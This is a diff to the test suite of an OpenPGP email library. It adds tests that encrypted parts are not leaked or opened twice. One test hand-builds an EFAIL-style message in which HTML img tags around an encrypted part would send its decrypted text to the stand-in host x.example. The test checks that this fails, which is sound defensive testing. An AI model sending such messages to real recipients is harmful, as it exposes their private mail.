@@ -193,6 +193,31 @@ def test_what_was_changed_on_its_way_stays_closed() -> None:  # H65
     assert found.summary is Summary.BROKEN and found.octets == forged
 
 
+def test_what_stands_around_an_encrypted_part_does_not_get_its_text() -> None:  # H65: EFAIL
+    bob = person(BOB)
+    begin = sealed(bob)
+    inner = begin[begin.lower().index(b"content-type:") :]
+    octets = (
+        f"From: eve@x.example\r\nTo: {BOB}\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
+        '--b\r\nContent-Type: text/html\r\n\r\n<img src="http://x.example/\r\n--b\r\n'
+    ).encode()
+    octets += inner + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
+    found = opened(octets, PgpOpener(own=[bob]))
+    assert found.summary is Summary.PARTLY and found.whole is None
+    assert b"oak" not in found.octets
+    [section] = found.sections
+    assert b"under the oak" in section.entity and b"img" not in section.entity
+
+
+def test_two_encrypted_messages_in_one_part_are_not_opened() -> None:  # H65
+    bob = person(BOB)
+    packets = sequoia.encrypt(ENTITY, [bob.public.cert], None)
+    for octets in (packets * 2, armour.write(packets, Kind.MESSAGE) * 2):
+        unsealed = PgpOpener(own=[bob]).unseal(octets, at=NOW)
+        assert not unsealed.encryption.is_opened and unsealed.entity == b""
+
+
 def test_a_key_that_is_over_or_gone_neither_signs_nor_is_encrypted_to() -> None:
     ended, revocation = make_key([ADA], at=MADE - timedelta(days=9), days=5)
     with pytest.raises(ProtectionError, match="ended on"):
@@ -231,7 +256,7 @@ def test_the_library_sends_it_and_header_protection_works() -> None:
     assert "under the <b>oak</b>" in read(found.octets).html
 
 
-def test_no_private_octets_are_shown() -> None:
+def test_no_private_octets_are_shown() -> None:  # section 5: Secrets
     key = person()
     shown = repr(key) + repr(PgpSigner(key)) + repr(PgpOpener(own=[key])) + str(key)
     assert key.octets[-32:].hex() not in shown and key.public.fingerprint in shown
